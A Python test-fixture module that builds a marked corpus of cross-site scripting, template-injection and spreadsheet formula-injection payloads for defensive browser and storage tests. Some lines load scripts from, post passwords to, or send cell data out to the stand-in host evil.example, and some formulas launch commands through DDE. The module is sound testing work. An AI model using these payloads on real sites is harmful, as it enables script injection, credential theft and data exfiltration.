"""Cross-site scripting payloads, each carrying a marker of its own.

Every payload is written with the placeholder ``{m}``, which becomes its
marker (xss001, xss002…), so a test can find where a payload ended up and
name it when something goes wrong. A payload that would run calls alert,
confirm, prompt or print with its marker, or sets ``window.__xss`` to it,
which the browser test watches for.

The groups follow the ways escaping and sanitising have failed in practice:
raw tags, event handlers, dangerous URL schemes, SVG and MathML, CSS, frames
and other embedding elements, breaking out of an attribute, server- and
client-side template syntax, Unicode look-alikes and invisible characters,
Markdown's link, image, autolink and reference forms, and spreadsheet
formulas that run when an export is opened.
"""

from dataclasses import dataclass

SCRIPT = "script tag"
EVENT = "event handler"
URL = "URL scheme"
SVG = "SVG and MathML"
CSS = "CSS"
EMBED = "frame and embedding"
BREAKOUT = "attribute breakout"
TEMPLATE = "template injection"
UNICODE = "Unicode trick"
MARKDOWN = "Markdown"
FORMULA = "spreadsheet formula"

# Characters a spreadsheet reads as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_RAW = {
    SCRIPT: [
        "<script>alert('{m}')</script>",
        "<SCRIPT>alert('{m}')</SCRIPT>",
        "<ScRiPt>alert('{m}')</sCrIpT>",
        "<script >alert('{m}')</script >",
        "<script\n>alert('{m}')</script\n>",
        "<script/x>alert('{m}')</script>",
        "<script src=//evil.example/{m}.js></script>",
        "<script/src=data:,alert('{m}')></script>",
        # Nested: a filter that removes <script> once leaves one behind.
        "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
        "<<script>alert('{m}');//<</script>",
        # Unclosed and broken tags, finished by whatever markup follows.
        "<script>alert('{m}')",
        "<script>alert('{m}')<!--",
        "<script src=//evil.example/{m}.js",
        # Leaving the element the text is put into.
        "</title><script>alert('{m}')</script>",
        "</textarea><script>alert('{m}')</script>",
        "</script><script>alert('{m}')</script>",
        "<script>window.__xss='{m}'</script>",
        "<script type=text/javascript>confirm('{m}')</script>",
        "<script>print('{m}')</script>",
    ],
    EVENT: [
        "<img src=x onerror=alert('{m}')>",
        '<img src="x" onerror="alert(\'{m}\')">',
        "<IMG SRC=x ONERROR=alert('{m}')>",
        "<img/src=\"x\"/onerror=alert('{m}')>",
        "<img src=x onerror\t=alert('{m}')>",
        "<img src=x onerror=alert&#40;'{m}'&#41;>",
        "<img src=x:x onerror=window.__xss='{m}'>",
        "<body onload=alert('{m}')>",
        "<input autofocus onfocus=alert('{m}')>",
        "<select autofocus onfocus=confirm('{m}')></select>",
        "<textarea autofocus onfocus=prompt('{m}')></textarea>",
        "<details open ontoggle=alert('{m}')>",
        "<div onmouseover=\"alert('{m}')\">hover</div>",
        "<a onmouseover=alert('{m}')>x</a>",
        "<video><source onerror=alert('{m}')></video>",
        "<audio src=x onerror=alert('{m}')>",
        "<marquee onstart=alert('{m}')>x</marquee>",
        "<button onclick=alert('{m}')>x</button>",
        "<div onpointerenter=alert('{m}')>x</div>",
        "<img src=x onerror=eval(atob('YWxlcnQoMSk='))//{m}>",
    ],
    URL: [
        "<a href=\"javascript:alert('{m}')\">x</a>",
        "<a href=\"JaVaScRiPt:alert('{m}')\">x</a>",
        "<a href=\"&#106;avascript:alert('{m}')\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript:alert('{m}')\">x</a>",
        "<a href=\"javascript&colon;alert('{m}')\">x</a>",
        "<a href=\"java&#9;script:alert('{m}')\">x</a>",
        "<a href=\"java\tscript:alert('{m}')\">x</a>",
        "<a href=\"java\nscript:alert('{m}')\">x</a>",
        "<a href=\" \x01javascript:alert('{m}')\">x</a>",
        "<a href=\"javascript%3Aalert('{m}')\">x</a>",
        "<a href=\"%6A%61vascript:alert('{m}')\">x</a>",
        "<a href=\"vbscript:msgbox('{m}')\">x</a>",
        "<a href=\"data:text/html,<script>alert('{m}')</script>\">x</a>",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}">'
        "x</a>",
        "<img src=\"javascript:alert('{m}')\">",
        "<form action=\"javascript:alert('{m}')\"><button>x</button></form>",
        "<button formaction=\"javascript:alert('{m}')\">x</button>",
        "javascript:alert('{m}')",
        "JAVASCRIPT:window.__xss='{m}'",
    ],
    SVG: [
        "<svg onload=alert('{m}')>",
        "<svg/onload=alert('{m}')>",
        "<svg><script>alert('{m}')</script></svg>",
        '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#{m}"/></svg>',
        "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert('{m}') />"
        "<text x=20 y=20>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert('{m}')>",
        "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert('{m}')</script>\">"
        "</iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert('{m}')></style></svg>",
        # Mutation XSS: parsed differently once re-serialised.
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    ],
    CSS: [
        "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
        "<div style=\"width:expression(alert('{m}'))\">x</div>",
        "<p style=\"x:expr/**/ession(alert('{m}'))\">x</p>",
        "<div style=\"background-image:url(&#1;javascript:alert('{m}'))\">x</div>",
        '<div style="behavior:url(//evil.example/{m}.htc)">x</div>',
        '<div style="-moz-binding:url(//evil.example/{m}.xml#x)">x</div>',
        "<style>@import 'javascript:alert(\"{m}\")';</style>",
        "<style>body{background:url(\"javascript:alert('{m}')\")}</style>",
        "<style>*{display:none}</style>{m}",
        "<link rel=stylesheet href=\"javascript:alert('{m}')\">",
        "x:expression(alert('{m}'))",
    ],
    EMBED: [
        '<iframe src="https://evil.example/{m}"></iframe>',
        "<iframe src=\"javascript:alert('{m}')\"></iframe>",
        "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
        "<object data=\"javascript:alert('{m}')\"></object>",
        "<object data=\"data:text/html,<script>alert('{m}')</script>\"></object>",
        "<embed src=\"javascript:alert('{m}')\">",
        '<embed src="https://evil.example/{m}.swf">',
        "<base href=\"javascript:alert('{m}')//\">",
        '<base href="https://evil.example/{m}/">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/{m}">',
        '<form action="https://evil.example/{m}"><input name=password></form>',
        "<frameset onload=alert('{m}')>",
        "<isindex action=javascript:alert('{m}') type=image>",
        '<applet code="{m}"></applet>',
    ],
    BREAKOUT: [
        "\"><script>alert('{m}')</script>",
        "'><script>alert('{m}')</script>",
        "\" onmouseover=\"alert('{m}')",
        "' onmouseover='alert(\"{m}\")",
        "\" autofocus onfocus=\"alert('{m}')",
        "` onmouseover=alert('{m}') `",
        "\"/><img src=x onerror=alert('{m}')>",
        "</a><img src=x onerror=alert('{m}')>",
        "--><script>alert('{m}')</script>",
        "]]><script>alert('{m}')</script>",
        "\"><svg onload=alert('{m}')>",
        "x\" style=\"x:expression(alert('{m}'))",
        "</option></select><img src=x onerror=alert('{m}')>",
        "</h1><script>alert('{m}')</script>",
        "</p></div><script>alert('{m}')</script>",
        "';alert('{m}');//",
    ],
    TEMPLATE: [
        "{{ '{m}' }}{{7*7}}",
        "{% debug %}{m}",
        "{{ request.user.password }}{m}",
        "{{ settings.SECRET_KEY }}{m}",
        "{% include 'base.html' %}{m}",
        "{% load log %}{% get_admin_log 10 as log %}{m}",
        "${alert('{m}')}",
        "#{alert('{m}')}",
        "{{constructor.constructor('alert(\"{m}\")')()}}",
        "<%= '{m}' %>",
        "[[${'{m}'}]]",
        "{{'{m}'|safe}}<script>alert(1)</script>",
    ],
    UNICODE: [
        # Full-width and other look-alikes of < and >.
        "＜script＞alert('{m}')＜/script＞",
        "＜img src=x onerror=alert('{m}')＞",
        "﹤script﹥alert('{m}')﹤/script﹥",
        "〈script〉alert('{m}')〈/script〉",
        # Right-to-left override: reads as a harmless name.
        "\u202egnp.exe.{m}",
        # Zero-width characters inside keywords.
        "<scr\u200bipt>alert('{m}')</scr\u200bipt>",
        "<a href=\"java\u200bscript:alert('{m}')\">x</a>",
        "[x](java\u200dscript:alert('{m}'))",
        "<img src=x onerror=alert('{m}')\ufeff>",
        # Homoglyphs: Cyrillic letters in place of Latin ones.
        "<ѕcript>alert('{m}')</ѕcript>",
        "[x](jаvascript:alert('{m}'))",
        # NUL: forms refuse it, the database cannot store it.
        "<scr\x00ipt>alert('{m}')</script>",
        "java\x00script:alert('{m}')",
        # Written as text: percent-encoded NUL and numeric entities.
        "<a href=\"java%00script:alert('{m}')\">x</a>",
        "&#0;<script>alert('{m}')</script>",
        # Overlong UTF-8 for < and >, percent-encoded and as Latin-1 text.
        "%C0%BCscript%C0%BEalert('{m}')%C0%BC/script%C0%BE",
        "À¼scriptÀ¾alert('{m}')À¼/scriptÀ¾",
        # UTF-7.
        "+ADw-script+AD4-alert('{m}')+ADw-/script+AD4-",
        # Line separators and an ideographic space before the scheme.
        "\u2028<script>alert('{m}')</script>\u2029",
        "<a href=\"\u3000javascript:alert('{m}')\">x</a>",
        # Already escaped: must not be unescaped into markup.
        "&lt;script&gt;alert('{m}')&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert('{m}')&amp;gt;",
    ],
    MARKDOWN: [
        "[x](javascript:alert('{m}'))",
        "[x](JAVASCRIPT:alert('{m}'))",
        "[x](javascript&#58;alert('{m}'))",
        "[x](  javascript:alert('{m}')  )",
        "[x](<javascript:alert('{m}')>)",
        "[x](vbscript:msgbox('{m}'))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m})",
        '[x](https://example.jp "\\"onmouseover=\\"alert(\'{m}\')")',
        "![x](x\"onerror=\"alert('{m}'))",
        "![x](javascript:alert('{m}'))",
        "![x\" onerror=\"alert('{m}')](x.png)",
        "![x](data:image/svg+xml,<svg onload=alert('{m}')>)",
        "<javascript:alert('{m}')>",
        "<https://example.jp/\"onmouseover=\"alert('{m}')>",
        "[x][r]\n\n[r]: javascript:alert('{m}')",
        '[x][r]\n\n[r]: https://example.jp "\\"><script>alert(\'{m}\')</script>"',
        "<a href=\"javascript:alert('{m}')\">raw HTML in Markdown</a>",
        "**<img src=x onerror=alert('{m}')>**",
        "`<script>alert('{m}')</script>`",
        "```\n</code></pre><script>alert('{m}')</script>\n```",
        "> <script>alert('{m}')</script>",
        "| a |\n|---|\n| <img src=x onerror=alert('{m}')> |",
        "# <svg onload=alert('{m}')>",
        "https://www.youtube.com/watch?v=aaaaaaaaaaa\"onload=\"alert('{m}')",
        "[https://youtu.be/dQw4w9WgXcQ](javascript:alert('{m}'))",
        "https://youtu.be/dQw4w9WgXcQ?t=\"><script>alert('{m}')</script>",
        "[x](https://example.jp/?q=<script>alert('{m}')</script>)",
        "www.example.jp/<script>alert('{m}')</script>",
    ],
    FORMULA: [
        '=HYPERLINK("https://evil.example/{m}","x")',
        "=cmd|' /C calc {m}'!A0",
        "+cmd|' /C calc {m}'!A0",
        "-2+3+cmd|' /C calc {m}'!A0",
        "@SUM(1+1)*cmd|' /C calc {m}'!A0",
        '\t=HYPERLINK("https://evil.example/{m}")',
        "\r=1+1+{m}",
        '=IMPORTXML(CONCAT("https://evil.example/{m}?",A1),"//a")',
        '=DDE("cmd";"/C calc";"{m}")',
        '=WEBSERVICE("https://evil.example/{m}")',
        "=1+1 {m}",
        "-1+1 {m}",
        "+81 {m}",
        "@{m}",
    ],
}


@dataclass(frozen=True)
class Payload:
    marker: str
    kind: str
    text: str

    def __str__(self):
        return f"{self.marker} ({self.kind}): {self.text!r}"

    @property
    def storable(self):
        """False for a NUL, which forms refuse before anything is stored."""
        return "\x00" not in self.text

    @property
    def is_formula(self):
        return self.text.startswith(FORMULA_TRIGGERS)


def _build():
    payloads = []
    for kind, texts in _RAW.items():
        for text in texts:
            marker = f"xss{len(payloads) + 1:03d}"
            payloads.append(Payload(marker, kind, text.replace("{m}", marker)))
    return payloads


PAYLOADS = _build()
KINDS = list(_RAW)
# What the database can hold: the corpus pushed into stored text.
STORED = [payload for payload in PAYLOADS if payload.storable]
# One payload of each kind, for pages that show a single object each.
SAMPLE = [next(p for p in STORED if p.kind == kind) for kind in KINDS]


def fitting(max_length, payloads=STORED):
    """The payloads that fit a field of max_length characters."""
    return [payload for payload in payloads if len(payload.text) <= max_length]


assert len({payload.text for payload in PAYLOADS}) == len(PAYLOADS)
